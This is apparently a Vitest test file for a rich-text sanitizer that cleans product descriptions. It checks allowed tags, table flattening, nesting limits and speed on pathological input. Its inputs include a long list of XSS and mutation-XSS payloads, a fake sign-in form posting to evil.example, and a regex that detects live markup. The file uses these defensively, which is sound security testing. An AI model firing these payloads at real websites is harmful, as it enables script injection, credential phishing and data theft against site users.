import { describe, expect, test } from 'vitest'
import { cleanHtml } from '../../../platform/rich-text/clean-html.ts'

describe('E6: a description is cleaned', () => {
  test.each([
    '<h2>Bright</h2><p>A <strong>very</strong> <em>good</em> <u>thing</u>.<br />Really.</p>',
    '<ul><li>one</li><li>two</li></ul><ol><li>three</li></ol><blockquote>said</blockquote>',
    '<pre><code>a &lt; b &amp;&amp; c</code></pre>',
    '<img src="/storage/v1/object/public/products/PRD00001/featured_image" alt="a lamp" loading="lazy" />',
    '<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener noreferrer ugc">there</a>',
    'plain text, 3 > 2',
  ])('%s stays', (html) => {
    const once = cleanHtml(html)
    expect(once).toBe(html.replace('3 > 2', '3 &gt; 2'))
    expect(cleanHtml(once)).toBe(once)
  })

  test('F11: a description with too many tags to clean quickly is shown as plain text', () => {
    expect(cleanHtml(`<script>${'<b>'.repeat(3000)}fine <i onclick="x()">print</i> 3 < 4`)).toMatch(
      /^<p> +fine +print +3 &lt; 4<\/p>$/,
    )
  })

  // Markup that must never be in the response, however it is disguised.
  const live =
    /<(?!\/?(?:p|br|hr|h[234]|blockquote|pre|code|ul|ol|li|b|strong|i|em|u|s|sub|sup|a|img)[\s/>])|<[^>]*\s(?:on\w+|style|srcset|class|id|target|formaction)\s*=|(?:href|src)="(?!https?:|mailto:|\/storage\/v1\/object\/public\/products\/)/i

  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="/storage/v1/object/public/products/../../../logout">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<svg onload=alert(1)><circle/></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/account/delete">x</a>',
    '<a href="https://example.com" onclick="alert(1)" style="position:fixed" target="_top">x</a>',
    '<p style="background:url(https://evil.example)">x</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="password"><button formaction="x">Sign in</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle=alert(1)>x</details>',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<p id="root" class="fixed inset-0">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    '<b/onclick=alert(1)>x</b>',
    '<img\x0csrc=x\x0conerror=alert(1)>',
  ])('%s does nothing', (html) => {
    const clean = cleanHtml(`<p>before</p>${html}<p>after</p>`)
    expect(clean).toContain('<p>before</p>')
    expect(clean).not.toMatch(live)
    expect(cleanHtml(clean)).toBe(clean)
  })

  test.each([
    ['<marquee>Sale</marquee>', 'Sale'],
    ['<div>one</div><div>two</div>', '<p>one</p><p>two</p>'],
    ['<div>one <b>bold</b><p>two</p>three</div>', '<p>one <b>bold</b></p><p>two</p><p>three</p>'],
    ['<section><div><div>deep</div></div></section>', '<p>deep</p>'],
    ['Hello <span style="color:red">big</span> world', '<p>Hello big world</p>'],
    ['<p>Hello <span>big</span> <font>world</font></p>', '<p>Hello big world</p>'],
    [
      '<table class="x"><tr><th onclick="x">Size</th><td>2 m</td></tr><tr><td>a<td>b</table>',
      '<table><tr><th>Size</th><td>2 m</td></tr><tr><td>a</td><td>b</td></tr></table>',
    ],
    [
      '<table><caption>Sizes</caption><thead><tr><th colspan="2" rowspan="0">S</th><th colspan="9999">M</th></tr></thead><tfoot><tr><td>1</td></tr></tfoot></table>',
      '<p>Sizes</p><table><thead><tr><th colspan="2">S</th><th>M</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    ],
    [
      '<table><tr><td><p>one</p><ul><li>two</li></ul><table><tr><td>three</td></tr></table></td></tr></table>',
      '<table><tr><td>one<br />two<br />three</td></tr></table>',
    ],
    ['<tr><td>loose</td></tr><tbody><p>text</p></tbody>', '<p>loose</p><p>text</p>'],
    [
      '<table>before<tr><td>in</td></tr><p>after</p></table>',
      '<p>before</p><p>after</p><table><tr><td>in</td></tr></table>',
    ],
    ['<h2><table><tr><td>one</td><td>two</td></tr></table></h2>', '<h2>one<br />two</h2>'],
    ['<table></table><table><tr></tr></table>text', '<p>text</p>'],
    [
      '<ul><li><div>one</div><div>two</div></li><li>three</li></ul>',
      '<ul><li><p>one</p><p>two</p></li><li>three</li></ul>',
    ],
    ['<h2><div>one</div><div>two</div></h2>', '<h2>one<br />two</h2>'],
    ['<h1>Big</h1><h5>small</h5><h6>smaller</h6>', '<h2>Big</h2><h4>small</h4><h4>smaller</h4>'],
    ['<p><del>was</del> <strike>is</strike></p>', '<p><s>was</s> <s>is</s></p>'],
    ['<select><option>red<option>blue</select><button>Buy</button>', '<p>red</p><p>blue</p><p>Buy</p>'],
    ['<b style="font-weight: normal"><p>copied</p></b>', '<p>copied</p>'],
  ])('%s loses its tags and keeps its text: %s', (html, clean) => {
    expect(cleanHtml(html)).toBe(clean)
    expect(cleanHtml(clean)).toBe(clean)
  })

  test.each([
    '<script>gone</script>',
    '<style>gone</style>',
    '<iframe src="https://evil.example"><p>gone</p></iframe>',
    '<object data="x"><p>gone</p></object>',
    '<applet>gone</applet>',
    '<noscript>gone</noscript>',
    '<template><p>gone</p></template>',
    '<svg><text>gone</text></svg>',
    '<math><mi>gone</mi></math>',
    '<canvas>gone</canvas>',
    '<video src="x">gone</video>',
    '<audio src="x">gone</audio>',
    '<head><title>gone</title></head>',
    '<xmp>gone</xmp>',
  ])('%s vanishes with its content', (html) => {
    expect(cleanHtml(`<p>before</p>${html}<p>after</p>`)).toBe('<p>before</p><p>after</p>')
  })

  test('nesting is limited to 50 levels, the text stays', () => {
    const deep = cleanHtml(`${'<b>'.repeat(200)}deep${'</b>'.repeat(200)}`)
    expect(deep.match(/<b>/g)).toHaveLength(50)
    expect(deep).toContain('deep')
  })

  test('the worst 50 kB are cleaned without blocking', () => {
    for (const worst of ['<', '<a ', '<p><p ', '&', '<b>', '<div>', '<td>', '<span>a', '<!--', '"', '<a href="'])
      expect(typeof cleanHtml(worst.repeat(Math.floor(50_000 / worst.length)))).toBe('string')
  })
})
